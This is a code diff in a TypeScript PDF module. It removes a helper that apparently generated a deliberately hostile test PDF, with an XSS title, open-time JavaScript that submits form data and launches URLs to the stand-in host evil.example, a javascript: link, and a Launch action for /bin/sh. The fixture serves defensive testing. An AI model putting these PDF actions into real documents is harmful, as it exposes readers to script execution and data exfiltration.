@@ -1,4 +1,4 @@
-import { degrees, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
+import { degrees, PDFDocument, StandardFonts } from '@cantoo/pdf-lib';
 
 /** A line of a page: its words, where its baseline begins (points from the lower left), and how it is set. */
 export interface DrawnLine {
@@ -75,37 +75,4 @@ function wrapped(text: string, wide: number): string[] {
     line = line ? `${line} ${word}` : word;
   }
   return [...lines, line];
-}
-
-/** A file that tries what it can: a script when it is opened, a form with a script, links out of it and to scripts. */
-export async function makeHostilePdf(texts: readonly string[]): Promise<Uint8Array> {
-  const file = await PDFDocument.create();
-  const font = await file.embedFont(StandardFonts.Helvetica);
-  const page = file.addPage([595, 842]);
-  file.setTitle('<img src=x onerror=alert(1)>');
-  for (const { text, x, y } of paragraphs(texts)) page.drawText(text, { x, y, size: 11, font });
-  const script = "app.alert('here'); this.submitForm('https://evil.example/'); app.launchURL('https://evil.example/');";
-  file.addJavaScript('opening', script);
-  const { context } = file;
-  const link = (y: number, action: { [name: string]: string | PDFString }) =>
-    context.register(
-      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, y, 400, y + 40], A: { Type: 'Action', ...action } }),
-    );
-  page.node.set(
-    PDFName.of('Annots'),
-    context.obj([
-      link(400, { S: 'URI', URI: PDFString.of('https://evil.example/') }),
-      link(450, { S: 'URI', URI: PDFString.of('javascript:alert(1)') }),
-      link(500, { S: 'JavaScript', JS: PDFString.of(script) }),
-      link(550, { S: 'Launch', F: PDFString.of('/bin/sh') }),
-    ]),
-  );
-  file.catalog.set(
-    PDFName.of('OpenAction'),
-    context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) }),
-  );
-  const field = file.getForm().createTextField('name');
-  field.setText('Filled in');
-  field.addToPage(page, { x: 60, y: 300, width: 200, height: 20 });
-  return file.save();
 }
